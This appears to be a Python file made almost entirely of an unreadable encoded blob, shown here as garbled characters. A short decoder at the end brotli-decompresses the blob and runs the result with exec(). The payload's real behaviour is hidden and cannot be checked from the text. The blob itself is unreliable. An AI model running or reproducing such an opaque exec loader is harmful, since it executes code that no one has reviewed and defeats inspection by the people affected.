_ހy˯s+mɤ?5-Y+uefNWɧ»ӔOѻ3No>J̸*b^oFlz=KP3hdhj<vESxI|Z/4Dw{^ף4ds3ޏҞ~E4_X3?IȝoB'qpJ!˒^}&w<(9[Je>uNRf.Wx^<dnȡ=sOou8R on*"t-V$#̛r}P,gm|VC`1D)Veq&ǲ?0VlVX[C8tbf]o[saIDUuGWxwd/w'<0\kSvz(HE0^ҙ9Cu[xqdEЄ<}yٞ(ǂ,3U x"AQ͙_WI7.R:c!TVݘDZQжٝuӚ+TzjWD+F;aQDeJg&/dXǹM/Q0gvh|
FPОq5P/KN(GZ@bɉ!8<;шU.Tfy5?<k؍Ԗ߶@Q+ж	)xgK(1e,Fl!aT<RY&yѷ`FJ`DsS}	մ\2w4pʹxa*Ǯ7Z-Ԗ=I"?O,ʋ W
;בoL׾\PlΨFOJrG,D0`iӬͽݐ3Fȗ1ÑfKx4A&C9<+(˞yr#&PҵJhu}{n}|GyUR+0*|U=.iEZlBV_m2pdȪ|Ce4/ұۊݗڜўcގ˖aOg>;N,Ĝ^n%fZTJ> ZKv`{ՇSZrT|'!ݯߌ\y:+i$"K:&=Lm-dxF1G.'Zw7:,"S޸i~'CD8'NKKݬ#ShڱqmS%Ʃ+kT:9[mp&SF2t^p?Ϫ+K3 "iA=+Ofx{~t+6u:(O;ɓLE+`FG1euq>0NބOTqg"ע`NkT)^ʬTҔР`֌DPѡ3!;n"Puѷma.><H0f^h^590ÊLYLYEc2(ԝ`ev|Â/hCڨyoY{fLL{^?>CEt{|Y91LHӍ_XR&.YwҮҢ")zȫ`	vL!< wDBWEŊklO>qf5[u=u+0ن,j}fQb#L|Ǹ0%XAdڠ\w[k+M1ź;tëEI?hB{-{İƓ6	_rكK:h[;OhӤ~QVxBKѳ2[%1r&	II *ܾ<gڲUڔczLm3>rӌBdZB&i%W2l2~XSmD׉Vwù! Cy}5P_^[}@[u	&Glm¼[z;D>֨DxFOly!2[AYݚYa&_QB+{=	w٬OQ>=JUtŅnH2K^`peOGj6w܅"76uI`)jTVJ_N@0طʫ}s`5pU45لq˫cê
J3.DeSswBQ@ݻv"_;Ɖ-tg+]:jwǶYԍI#>#ŵ5_o׸1`U´ܢ(khϹRiχyr{t#؄Щ`p̯T\juw?Ϗ+Rv?ysQ6FAF<FOQm\i{/{r2xqѬ5uӨeȔi+tkRsntԮO@`{*kmgFɥ۬Lum*|rg:u9h^
-_Ҥi#4Sy+t}#)M4jRg:3ƭVc"R}*SHIiҁ+*W D-_O$je=sMԿ-%'?g5uhY5WC7[VS~6K	M%cC`Qv\ǂB)=hͶT^$g$s{MW
|F R\͍bG4ާRz26Dtiܰ\`n1ϳnqDĘP$l\H#͖3+;8~d<l	Rgjk6 P3w<) m~Fs<|aéw7i7QD2w%U~%c9?2.0@2D־Пd}UWR2;8<|ϰ$[(ɧ-T̫GX.IFU=Pg!wݮ	=}>"#r׎[IȈMΒ25Dʌݨ\)L0l79w7^2r.e?i&ٝ´w/%t,NkixԘ8n<ĴQJOQQj +piΏKP%~ߔ].ˊpH`&1; jNDx`#@Aa#T_oԐy=f^J?h:Vl*
i)2tZjYc)Pd ~tȥO3a Dȵ?G&|і{zr]Q{+RތdBN{@RC^N=:~٧BXyT.&UȤ-dȍ(\%G1Ȳ>c}M/:g¯hhuð6e?ů9*NB6JU]cj/TqifЖWnImRnwOΩdL/+_GW	%ޙSx|kW"h$"oL(I^Ua_)q=vKlԫYw%~gGyߟ3ߌxw^WGʿԞ:v&D!r*½$'1HQۀC"`|CLw
o'I6 ܣyp֊ߛBP* ߔ6v*b[{	2RIhB;=X5UC_yD?0VAYҮ4nvڵbFa2LN"cYIDn!ި
!@8M-ǋ(*͆bG-?םprYzGG<ɇ4)Hby Yg{&bx եt9gFWx>7#{~H!S<+Zh'`j<kLSۥ7ut(GQ̓VRфLZ}Z@NƢϘ/Q<ϔڮN~OXaB8375ɩ\)jeWXoØ3@.>Vh֜lʿE>C$މ$232/0Ef5١E+;a0ưƔ,(oi`!	Q)hD֘Dlntd	[tux!eF`q͈U'^++_"kʩY19N|TQX+aAsP=JO2ΡӤpfϭqP5+=AMCRPpdҮLs1kbq=Mvԥ)x6Nǰ2?'xEM(i`ZU3VT׌I$iی͑H/μŴZEc\uGӑWR$́d3XƾL'n`C&Bu̟@t!3Lު;A\.rnQSMQe2}%\ԤW	
%#2Qh7h	isɿ݉$A°e1=!EO*Y<'0k*ݘ:lւSͭg$ÊWڅ$, BfY@A9Qԑd*K2F6;O
՝?r4V7T;pSnAkҢPj[ѡ'h,ц+^1X#cU2ߎWC׼z8`IɓsP΀7=?ևy<6۶g}êQI}FD8pT##L\!Rn*r	#§Elφk܌gqߍt&E'=Kħg͂Wɖ5۳.ج*&yT\)Ŧvu_$QPưAV%m%גuh߫%׳RfyRzˍ|ghN?{4+&/ܤNzWl]:yɷc~p}$fUw{>Zl(;f؝[+>t~؎f?;%!5sA)ɼEϊϰJȳ_т^KOaJϋҘ'[{ 95i͓ʘ4 _Ms6w1VT^/A3Y3=O0V	ĥqڈK^h0c+(Ezߵ3tJSQМ{tkϔ՚E7ďiYRqm2&p[vf*Vr]1aCD8+q.L:bX0>C[ܘzyVӹ;j/=ɓ!=Cq|':ȓҥEZp*%_h. T-^54Ͷ|(oh|FZZD7oj*/7=mޗf7֟]`V6I>b#ѦWΘÆ|}Q?yq[0m_B;d30U(|H#Nл
dm^Cr)(ނz0;Ϭa&'B$^@g7?:=˦/Ak?i2hS&&xqǩ$v=_Y8zyY8zzTHrt%ocVC3Pq$Ts
ǲLҟ&` t8]MqaA­3.BQ˩*Q;ϮD0ݗcp&<[A06%cvǜDsM@˟Op7'm(}؜Yv]527f]
.-.ϥ}L&.$o#*uF-ӗEiA1?`sɓjcD'1O۾s:`tA	&hc+:dB "!4#c+P˳-#z>dlhFOx3;wDb7#Z8#
)vv
X"'}ɟZٴwT&AM*h\J#Rj|հL2}	|&Bڰ=Bաx<Rz)%(X9Uc"J=@q-(SHi|A[n>Ud!PMK%dlE32Uۑ7:t.܂ncTGpQRiD':mF4~']oî u.iHY*`+&x86.#ڟ@1jُF=˗6wbg2S`CVkkAoOvsW&ʯǺ3̜7CqiK
G~0FR>3+	ǟΣЍp@Ղ˔ݹj"rƆMSɧT*u0lI:ةo}|IƿӾu\0)"F$g/ЪK5k)oټC	/?<ʷ3h{;0EyQ`(1^ًWOn"D~Ci6vkӳxWW!2tW{9wPKfyi
+"mw+c~Nk	rD^!-L#߷$'z5^YsA7q`+5ߘ>=	ShɥwAQ2Ńbj={Ű8ͫnՇi,eIe2j;%?C?fu-ۉ,O!01b$cQWz~ɮcdb_LN%ZوК/$dK2|1VCx5M=SP5ڦp: ȸՃ)+7%VaYY4-dק1܋w0P	6,/wĽjh),VxKh;[!.o+<WWpR77ve*_[+7?vҢ vNѸ̚*'(WXxz1[}6C>}s7=V"f01Bi|h$ b'*ON)ٖ~FMٖKe=@Q/3`Qadi{zd޼ME÷ސp33ڠlş/e*ɩL;\Oqpxv$b`(#z֫kNKO!r;=t9Yzc	1Ǌ#AK^g8Qin`ۨlٝJy@1'TNh}7z88+,rb4˦JǗV5 &"}Kde{"Sψ5gİ	QagD&WcU;PRJ#U'e[GRa`4<&Kn\"XoyɪӐ&T*>J5,aU\¸ܟ:sb*VL2ݍw%
n%>T+o=[4rRvٽ!вa*Yg׎Yc;_,0hĻ'!#7SpM\g8)yHMSe64
Lգmf\'DHEwL71^h8(n"ΞdLeI,(@F;qpcrߘ{(4,fdX#Qj T{;e4n*ť4d"&GM4J!^-hMr)PqjOxLc&VƸGOI
{JZu7'p[EKك.2}#A(3OgD3$2SL?fsTs'U&y܅OW=:eAsh#xrU.lݩaRrC<ڴ,ĎilXC@Fy_}v=U!{{Lò+nL˔ZVܷMew<lƙЈ]T؆<Ů	[~q-#lTý\Aд7z8xZ[Wf^Us10C}zD+:Wi+X+0IT}"äo1a't%;I7ۘ	2is˜:\9 x؎~Hib7NXݻ![̢pߴzB5rKA@Ĉݝ{)NcĬ~X[XvnνNǓFK:߅SйocU4g@͕e(æ.ok$e,ł>8Ѐ=dQ{f
K\#B45h'l;n&N3AVb)41f[l[WjV}tH`%@S8׬M3AG_(X%&o5ܦG:5Ѯo>[f&./aynD.oIy͕:vIZ+BiJ*dq6zŕ9n.4TGй!$}ƨ3Y?>{=tTi!ӰCZ+z|T.P54ծAX{L0dpYԘ-)Orƃ^8A>/$hXRSڎ+$[P!d;"a$
6NۭKB{3Kԙ-'Py4͂_=jrJ/K.{ɉb-+~i:%ڱ;3J%a]]
Y9؄|c<BtѰ,"8D]HTgUC2%SL-Gecͭ8-u~İ	[CۿРǪ؟f}cN^PuQdKAX6ΕíKk݂}/сufw^!fmaPuv-D~M !;RŎkPrڱ3}M>t
,4)u
(dHU6]@˙PoC9;|BDO$rBث,4MSIvwfd~y$-|	88'O<cm->rJPgЯfYsŞxŹG$.Msq,ݔ\&jȬ0S8sAcө8,f̈́2-V/m=o8JBτmA2	j9ԫSފ{E[yXE9v4rZJ^[Dۼ]+tӦG<AIn}
I7jɉnb!ŉ8~řu!Lh׹giK%4!9,k,_0"(hIFESBc,CqX$k2";+Pjh_T[)J[ۮ9i2EyY<!ݑ̷J9`cSK%R.9F7piШ<>V3w^Z<y`7bm"(ʷc@"]oLYOoLCT{b?4^iy5HE7H""UNY`(E=9<K۔ee<^S8t߲cFda@P<ݏvwN_k˭VY1[X`[hi`Z#m)&R\l@~%FbO~ո<0wOH@ФyPe֓NԐy8ĶU+_oAFmwzŔ#.|=.>n+D0B8't	*9cB1=ڂ!'
5Hօ224b5=Iz	yIVf[yŨO`vb
^IY}O 4N6Kg!Szwj[GKvߣ:qxwT<R-,;Tϩݬ49ý9P>Gsİ
Je_0rgiNv(gN^\HشSѦ7׬Ԥ*͏[ϯ0@JKazۘ؝߇͟MH;ЍȌЙ n]H2ցCsup@J
*uTO/#b(HvRV+:W[bS	R$(4үT%wmG'H>g4i+]kuZUc+ׯ|6)UnB;V8!%yՖh'd{/JK6nEA
ڃqKZ<Qȋ]Ɩ"q6A<fƥUrsIv1ɹd.(ЀnR"2ԁ֙7pKTֆrߍni/dy2Aun%^{m`.d
\tT` ]0.}_q+S!ٶi[6~o@~ǔ~^̿wVV{/VK<WI:--,|ԋ<ՍRJUwȪb]˿:GY<AFa0R	+e)2c إO5tǈY_ϑYonF
@y-bO,#ʘY{)ȧGSd$'i@,KÔ[><kTӾ۶q6:J+T}=޷>u!M2 āׁclN%nQA3`6&̮ݤƜû(59ֽ85D.mF!gB+	!#*";E6KM(}diMup,avY=JYWڑd/pc<#h9$ȑ+M }.ׁBʡfxJҮ
*ރ<K#s٧7oUCdUV`ea=-x*BĺwõxŷG07+Hŉ/mH'߼xvFƕOZ^OX!8t`nb°S&!u7j;Oل?ǅ#VMQ-s=c@ȟCև>i5W٥[@ͅ~yӰh'Ӂ@rW(n̬ʉ߇cT^;mov|H~j@&Q4Qfy.Ԗ8I -kMmǬ@IɑtӪH[˻)ɺ`уÔnG}cnJ6OC)X}n'wF=;Ӷ(.R	|vS_KybS ol^9ۼв{fK=z"Kk`fҽ_MaP0ݞVl@mDӛf^h8!'w3{M]Hc$5|}5dl_h.`K`bǅ`O
4{6J#=Vi&:-H*9܏mY٬ؠ}u=ʢWJ5Frx=ߦ$H	2M&9bVcbМYQh|ϛϷh:$}&,3Ȝ̫kS"tܙRǻۑkRyD[T u#,gOĭLҋ^\ŁQ)_7=PerD+3HiЍVWĈSE1I݈(ǯ>87)\4z˱gg%\|X6h^\1Ф)2'Ke"vZ5-LfЅ3tf}t\WR9#Cʹ{ĊEMى!NslU`"7"ҍGۦ[^׭ɏO~CC>iڭ-MEKrUCgz׉пNH%dz5NoOi(ط~'alX	7@{v&[gZ$Jz#îfւ]rhksݲN'-P9C?i<r.25ޜao=ģ֤k	[lN1Kf8
\_^g5Ov)SʄulX1a}œݴ5 V	̥Nҫ֨]^=Q}_Gu--"ko>{58i`xRfyR-%!\O 4r) Toț^6ҖÞQ2gIYĦ҂ʩmsnXQ߰J)NG,
lܑɶdGCo=Li8lPDȏPSTo#w5f.j(u%ŪƳUn26PJ;(ɡ(P';E>bn'gKOإN"(ض?В} 62*Wl:=Δdms'؂j͗CMF4n8o´:eeʮL^=|2\.ѭ(;$4
a1$m6TȔcpeo)=c؄@'څ,R:rDUF%sp?ͬsVSvۈ&y ߦc,.iXu#ݩڸ+`iaߵB`ӕB^zn2|	x~ضhiZ`plJFrTVoz*DZ`.ǔkd[}TKQ)`mUެ-Cg`it)cߜ5hk2ҋP_Ok'%MhȬ'$u
>пBȱڎ8( 9/,޾sͮC))Wגm@KՋO-w!5ezDbӪ֔8IC2uMJz
@(=cĐ~/:WGrWj8`=zuY)YSW9f*3)^_9vq[w˙JV2^s;nǾ+Ȱo¬~MUY$ܴ<-9'!Oѳq )עع>58/ҡX (]n`Ɯ2!sDRlKǐ@'#+[R1h;TFTY;CkZS>ŉe5^A#QrYn= 1Uh(P&tFԪ4ӧ#mL8)˻CQ.\yHŮ1Mr2#(&B(OyeoIx5k]1ٕ9X-5EϿ6:b*"q,`r 4a$=dc;q@!(˅$.AV: z/Õs<YCΓ|G|וɀJ95@@ƫ;]PozQ^}0>$Ed4ƚow]%̶&)4`XԡqvX:R4WT&ՕT7Ģ{$	ؼ]jF|w[9px4N%QӴcwh*q.ԓAϥ/X-0`MTwq{v,6.KI |۽l&a3@ݣu+r54yeId:ׂ۹EN4{s܂ba*ǢZj$`3s?)xRӰ4`4xvc+IPŝ:6GcB*h܀z/(BV;ǿ.$];XG_`ޯ-@hC$:)0sfpޚo:2zj+À`0/is˲,yb3
\Fi
xOPz_g"g̎E1)X˩01mOѯǙ0Ԉ)zګ/kS5߷Q9&F]N}ǎZ-!\ gׂ=_X]7L6;"#	&Zpvȩ/I5jG|Tv=u-l{A١ӽˠ
Y@;ا?ƟMtBú9_WY<	o{_F
X`%X&|75&+E	\
MTtƓ۰94jYG`U
V4}zįe|sm\BI0lR4~܏	J:)3ђ!QM9n%@3?-saPKWYFoXԚ1gUWqQĪt(a!?++liѬh:qh\:k_ǅh?-'0b&0V~wKv_4k!¦ti|2!.I7Q482WNnнz	jD9ѭXUF.j|)Կa3Bd)6;oVɛ?a;ՙj2ZG{0hӧ!s)4ilޖR9sق%ۡ#:;Ć]qu	#%p*&vQ~ߞ#WUt*bQgJxkvmҢܿߺ̺ -lO} )ɷb8ЮڸQO.ͿʜxYu#^Rfac\RV\joȅ;ςd/UW_	(T&UĶocsSB՝Ư:$WڌW@JpDGPB[kgȈά	^	ymJH|I
NlƐ(nǃG??KNp
Ь]ߨvgΒ)	w7ԑC%_\']̔cA->tX!T|_"X\mMpAΎm2-zo&atHgAYBYxztv׎#TIHdu#Ig½ҕ
RqoNq84D.Ou2vd+0x{A,v
10ahRelR;0N]lڂzI7 uzDy1Yx`Fpѧ8xG4E7<w0xV,+xN:}q`"B"qjF*0bpLVʦ$*G`ȷ8;&-X|"12I`UM+gu/8]RWgO?ozmR~AjCڍJ^H1(ѕxnn#"E^up[z݋h,΢tTy<]m3z=Os`tk9!#Ixo̞@-@$@ȨI>gôhQ'u.Ļq*eа1KcA<X1d=:Z΄%u(8۩<|Ә'h+ڌ8erhCܒR~nS
1O?kdpR7#zЏ,'9o	L_ZbwT.@837xgøZ׊ldǿ7:pJQc@nYm6Ћ)1)lNݳD#~?4Ӷ8'o>IC8wՓp,-^ÖzM|UȱI4Jd~PGA؃UB9YX_7-o+%aЁ{kvZ.0B}m!~'5x`]ll^HUnqMuDlaOݑUѶ$r(`O+N#qMGMѹ:ŶFɭSKBm2$,opR}ڎ@l$|]@S̙DLiORߢ/7m51qDfسa6	^!l|:h[08/.Ei6;-łƩUQ'ɵ}jk|ׂi:)w,4<$G)iÝ_:]!F*URUO"^(:`dnqV+ܣH&zn`.*1Idڏ_mS^ɹ%m4ַͥ"u޼BufެʭH}Xm".\	kT,> ٛJ&p ,9qBiɆR)OPj1měKi@soQSߑ/$|؊i֍|5_U)GՉZQiӦxf.K!: I]((Uu0zI[C1;d!d"bF>}g~Q]qsB{2P֮?m#N\_ny
3٘L?V7*צx̭ѤSP)%и>|̘~͢4Q$}ђ9"OܧBߙ'y>4/Hr0	sd|773̒Үlߡf{cYu޸[Ͻqn+oC?oh&e-˷oـJ 2D׷&ڒӳ: UӘ0>&A{p3lE*ivʙ8*&"vaDe- C2Jc]mw,2)ÙQRu#k
Z	LJ~km'˕*1+%7ݓJYwpʯ]Nk/kveqvdŪHa
}|XDΙ+3ߞHДw)y$M	/XR5ƭ~&M]WOKJ&Ӯ.J7YЃґ+-Bق4}hמkJɖ,5/ X=SҖy*\} LY|Y!*ua
wb}	~tF&SdvjWKǁ#FtŘo,0ضe2j"TTԘPnUon{>E\֫E''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(24481)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
